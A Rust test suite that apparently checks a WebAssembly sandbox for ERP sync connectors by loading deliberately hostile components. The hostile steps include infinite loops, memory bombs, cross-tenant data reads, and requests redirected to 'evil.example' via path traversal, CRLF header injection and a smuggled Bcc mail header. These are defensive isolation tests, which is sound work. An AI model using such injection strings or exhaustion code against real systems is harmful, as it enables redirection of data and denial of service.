//! A component that does, on purpose, what it must not: each misdeed is held, the data of both
//! companies stay as they were, and the other company's calls go on meanwhile.
//!
//! The component is built here from the contract and a few instructions for the misdeed; it runs
//! for a company of the reference ERP, beside a company whose calls go to the real component.

use std::sync::OnceLock;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use leaflink_sync::world::LoadedWorld;
use leaflink_sync_kit::host::types::Outcome;
use leaflink_sync_kit::host::{Store, http};
use leaflink_sync_kit::limits::Limit;
use leaflink_sync_kit::{Budget, CallError, CompanyId, Connector, Engine, Limits};
use leaflink_sync_tests::bench::{Bench, answer};
use leaflink_sync_tests::component;
use serde_json::json;
use text::{ANSWER, Fixture, OK, TEXT, put, repeat};

#[allow(dead_code)]
#[path = "../../host-harness/kit/tests/kit/component.rs"]
mod text;

/// The order that the well-behaved company has.
const NUMBER: &str = "2f1dd9c7-4b0e-4d7a-9d2f-0f6f0c1f9a55";

/// The limits for production, but for the time: nobody wants to wait for an endless loop.
const LIMITS: Limits = Limits { budget: Budget::Time(Duration::from_millis(500)), ..Limits::DEFAULT };

fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| Engine::new(LIMITS).expect("an engine"))
}

fn real() -> &'static Connector {
    static REAL: OnceLock<Connector> = OnceLock::new();
    REAL.get_or_init(|| engine().load(component::path().expect("the component")).expect("it loads"))
}

/// Two companies on one host: one with an order from LeafLink that came over, one that misbehaves.
struct Town {
    bench: Bench,
    bad: CompanyId,
}

/// What a company could lose or gain.
type Belongings = (Vec<(String, Vec<u8>)>, String, usize, usize);

impl Town {
    fn new() -> Self {
        let world = LoadedWorld::load(&component::root().join("tests/scenarios/plain-order/world.json"));
        let world = world.expect("the shared world").world;
        let body = order(world.leaflink);
        let leaflink = move |request: &http::Request| match request.path.strip_suffix(&format!("{NUMBER}/")) {
            Some("/orders-received/") => answer(200, body.as_bytes()),
            _ => answer(200, "{}"),
        };
        let bench = Bench::new(&world.erp, Box::new(leaflink)).expect("a bench");
        let bad = CompanyId("misbehaving".to_owned());
        bench.add_company(&bad, &world.erp).expect("another company");
        bench.calls(real()).map_user(4107, "u-rae").expect("the user is mapped");
        let decision = bench.calls(real()).on_order(NUMBER).expect("the order is looked at");
        assert_eq!(decision.outcome, Outcome::Applied);
        Self { bench, bad }
    }

    fn belongings(&self, company: &CompanyId) -> Belongings {
        let erp = self.bench.erp();
        let mut view = erp.view(company).expect("a view");
        let state = view.scan("", None, 1_000).expect("its state");
        let orders = erp.sales_orders_table(company, None).expect("its sales orders");
        (
            state.into_iter().map(|entry| (entry.key, entry.value)).collect(),
            format!("{orders:?}"),
            erp.journal(company, 0, 1_000).expect("its journal").len(),
            erp.unsent_mail(company).expect("its mail").len(),
        )
    }

    /// Has the misdeed done for the one company while the other's calls go on; both must keep what
    /// they have. Answers how the misdeed's call ended.
    #[track_caller]
    fn suffers(&self, misdeed: &Fixture) -> Result<(), CallError> {
        let connector = engine().load_bytes(&misdeed.build()).expect("it is a component");
        let before = [self.bench.company(), &self.bad].map(|company| self.belongings(company));
        let over = AtomicBool::new(false);
        let (outcome, others) = std::thread::scope(|scope| {
            let others = scope.spawn(|| {
                let calls = self.bench.calls(real());
                let mut others = 0;
                while others == 0 || !over.load(Ordering::Relaxed) {
                    let decision = calls.on_order(NUMBER).expect("the other company's call");
                    assert_eq!(decision.outcome, Outcome::Unchanged);
                    others += 1;
                }
                others
            });
            let outcome = self.bench.calls_of(&self.bad, &connector).on_order(NUMBER).map(drop);
            over.store(true, Ordering::Relaxed);
            (outcome, others.join().expect("the other company's calls"))
        });
        let after = [self.bench.company(), &self.bad].map(|company| self.belongings(company));
        assert!(before == after, "something was left behind");
        assert!(others > 0);
        outcome
    }

    /// The same with these instructions as `on-order`, before it answers well.
    #[track_caller]
    fn suffers_code(&self, code: &str, text: &str) -> Result<(), CallError> {
        self.suffers(&Fixture::new().text(text).body("orders.on-order", format!("{code} {OK}")))
    }
}

/// The order of the shared world, as LeafLink sends it.
fn order(seed: leaflink_sandbox::Seed) -> String {
    let mut sandbox = leaflink_sandbox::Sandbox::new(seed).expect("the world's LeafLink");
    let placed = json!({
        "short_id": "0c1f9a55", "number": NUMBER, "customer": 310_044, "reps": [4107], "tax_percent": "15",
        "lines": [{"product": 501_003, "quantity": "1"}],
    });
    sandbox.place_order(serde_json::from_value(placed).expect("an order")).expect("it can be placed");
    let path = format!("/api/v2/orders-received/{NUMBER}/?include_children=line_items");
    let mut request = leaflink_sandbox::Request::new(leaflink_sandbox::Method::Get, &path);
    request.headers.push(("Authorization".to_owned(), format!("App {}", sandbox.api_key())));
    String::from_utf8(sandbox.handle(&request).body).expect("an order is text")
}

/// Traps unless the import's answer at [`ANSWER`] begins with this byte.
fn expect(byte: u8) -> String {
    format!("(if (i32.ne (i32.load8_u (i32.const {ANSWER})) (i32.const {byte})) (then unreachable))")
}

/// Memory for texts of up to 40 MiB.
const ROOM: &str = "(if (i32.eq (memory.grow (i32.const 640)) (i32.const -1)) (then unreachable))";
const HUGE: u32 = 33 << 20;

#[test]
fn it_computes_for_ever() {
    let error = Town::new().suffers_code("(loop $again (br $again))", "").expect_err("it is ended");
    assert!(matches!(error, CallError::TimeLimit { .. }), "{error}");
}

#[test]
fn it_takes_all_memory() {
    let bomb = "(loop $more (br_if $more (i32.ne (memory.grow (i32.const 64)) (i32.const -1)))) unreachable";
    let error = Town::new().suffers_code(bomb, "").expect_err("it is ended");
    assert!(matches!(error, CallError::MemoryLimit { .. }), "{error}");
}

#[test]
fn it_hands_over_giant_texts() {
    let town = Town::new();
    let log = format!("{ROOM} (call $log.write (i32.const 0) (i32.const 0) (i32.const {HUGE}))");
    let error = town.suffers_code(&log, "").expect_err("it is ended");
    assert!(matches!(error, CallError::Trapped { .. }), "{error}");

    // As its answer: ok, stream, and a subject of that length.
    let answer = format!(
        "{ROOM} (i32.store (i32.const {}) (i32.const 0)) (i32.store (i32.const {}) (i32.const {HUGE})) \
         (i32.const {ANSWER})",
        ANSWER + 8,
        ANSWER + 12
    );
    let error = town.suffers(&Fixture::new().body("orders.on-order", answer)).expect_err("it is ended");
    assert!(matches!(error, CallError::Trapped { .. }), "{error}");

    // As a value of its state: refused, and nothing is stored.
    let value = format!(
        "{ROOM} (call $store.put (i32.const {TEXT}) (i32.const 1) (i32.const 0) (i32.const 1048577) \
         (i32.const {ANSWER})) {}",
        expect(1)
    );
    town.suffers_code(&value, "k").expect("a refusal that it may live with");
}

#[test]
fn it_calls_itself_without_end() {
    let deep = Fixture::new().body("orders.on-order", "(call $orders.on-order (local.get 0) (local.get 1))");
    let error = Town::new().suffers(&deep).expect_err("it is ended");
    assert!(error.to_string().contains("call stack exhausted"), "{error}");
}

#[test]
fn it_traps_after_it_wrote() {
    let error = Town::new().suffers_code(&format!("{} unreachable", put()), "k").expect_err("it is ended");
    assert!(matches!(error, CallError::Trapped { .. }), "{error}");
}

#[test]
fn it_writes_ten_million_times_and_does_not_listen() {
    let error = Town::new().suffers_code(&repeat(10_000_000, &put()), "k").expect_err("it is ended");
    let CallError::Limit { exceeded, .. } = error else { panic!("{error}") };
    assert_eq!((exceeded.limit, exceeded.allowed), (Limit::StoreWrites, 5_000));
}

#[test]
fn it_asks_for_another_companys_keys_and_orders() {
    let town = Town::new();
    let key = format!("order/{NUMBER}");
    let length = key.len();
    assert!(town.belongings(town.bench.company()).0.iter().any(|(known, _)| *known == key));
    // Nothing is there to be read, nothing to be listed, and what is removed is nothing.
    let nothing = format!("(if (i32.load (i32.const {})) (then unreachable))", ANSWER + 4);
    let listed = format!("(if (i32.load (i32.const {})) (then unreachable))", ANSWER + 8);
    let code = format!(
        "(call $store.get (i32.const {TEXT}) (i32.const {length}) (i32.const {ANSWER})) {} {nothing}
         (call $store.scan (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) \
          (i32.const 1000) (i32.const {ANSWER})) {} {listed}
         (call $store.delete (i32.const {TEXT}) (i32.const {length}) (i32.const {ANSWER})) {}",
        expect(0),
        expect(0),
        expect(0),
    );
    // The answers lie where the decision will be.
    let clear = format!("(memory.fill (i32.const {ANSWER}) (i32.const 0) (i32.const 64))");
    town.suffers_code(&format!("{code} {clear}"), &key).expect("it finds nothing");

    // What it may write is its own, under the same name.
    let write = format!(
        "(call $store.put (i32.const {TEXT}) (i32.const {length}) (i32.const {TEXT}) (i32.const 1) \
         (i32.const {ANSWER}))"
    );
    let connector = Fixture::new().text(&key).body("orders.on-order", format!("{write} {OK}")).build();
    let connector = engine().load_bytes(&connector).expect("it is a component");
    let before = town.belongings(town.bench.company());
    town.bench.calls_of(&town.bad, &connector).on_order(NUMBER).expect("its own key");
    assert!(town.belongings(town.bench.company()) == before);
    assert_eq!(town.belongings(&town.bad).0, [(key, b"o".to_vec())]);

    // The other company's sales order is not there for it.
    let unlink = format!(
        "(call $records.unlink-sales-order (i32.const {TEXT}) (i32.const 7) (i32.const {ANSWER})) {}",
        expect(1)
    );
    let so = "so-1001";
    assert!(town.bench.erp().view(town.bench.company()).is_ok());
    town.suffers_code(&unlink, so).expect("a refusal that it may live with");
}

/// `http.send` of a path with one header; both are pieces of the text.
fn send_with(method: u32, path: &str, name: &str, value: &str) -> (String, String) {
    let (list, text) = (2_048 + 512, TEXT);
    let (name_at, value_at) = (text + path.len() as u32, text + (path.len() + name.len()) as u32);
    let mut code = String::new();
    for (at, number) in [name_at, name.len() as u32, value_at, value.len() as u32].into_iter().enumerate() {
        code.push_str(&format!("(i32.store (i32.const {}) (i32.const {number}))", list + at as u32 * 4));
    }
    code.push_str(&format!(
        "(call $http.send (i32.const {method}) (i32.const {text}) (i32.const {}) (i32.const 0) (i32.const 0) \
         (i32.const {list}) (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const {ANSWER}))",
        path.len()
    ));
    (code, format!("{path}{name}{value}"))
}

#[test]
fn it_sends_to_another_host_or_slips_in_headers() {
    let town = Town::new();
    let refused = [
        (0, "//evil.example/products/", "accept", "a"),
        (0, "https://evil.example/", "accept", "a"),
        (0, "/products/../../evil/", "accept", "a"),
        (0, "/products/%2e%2e/", "accept", "a"),
        (0, "/products/\r\nhost: evil.example\r\n/", "accept", "a"),
        (0, "/products/", "accept", "a\r\nhost: evil.example"),
        (0, "/products/", "accept: a\r\nhost", "evil.example"),
        // Only `deliver` may write.
        (1, "/order-payments/", "accept", "a"),
    ];
    for (method, path, name, value) in refused {
        let (code, text) = send_with(method, path, name, value);
        let clear = format!("(memory.fill (i32.const {ANSWER}) (i32.const 0) (i32.const 64))");
        let outcome = town.suffers_code(&format!("{code} {} {clear}", expect(1)), &text);
        outcome.unwrap_or_else(|error| panic!("{path:?}, {name:?}: {error}"));
        assert!(town.bench.sent(&town.bad).is_empty(), "{path:?}, {name:?}: {value:?} was sent");
    }
    let dropped = ["host", "authorization", "cookie", "x-forwarded-host", "x-http-method-override"];
    for (sent, name) in dropped.into_iter().enumerate() {
        let (code, text) = send_with(0, "/products/", name, "evil.example");
        town.suffers_code(&code, &text).expect("it is sent without the header");
        let requests = town.bench.sent(&town.bad);
        assert_eq!(requests.len(), sent + 1);
        assert!(requests.iter().all(|request| request.headers.is_empty()), "{requests:?}");
    }
}

#[test]
fn it_slips_headers_into_a_mail() {
    let town = Town::new();
    let subject = "Order waits\r\nBcc: evil@evil.example";
    let mail = format!(
        "(call $mail.queue (i32.const 0) (i32.const 0) (i32.const {TEXT}) (i32.const {}) \
         (i32.const {TEXT}) (i32.const 1) (i32.const {ANSWER})) {} \
         (memory.fill (i32.const {ANSWER}) (i32.const 0) (i32.const 64))",
        subject.len(),
        expect(1)
    );
    town.suffers_code(&mail, subject).expect("a refusal that it may live with");
}
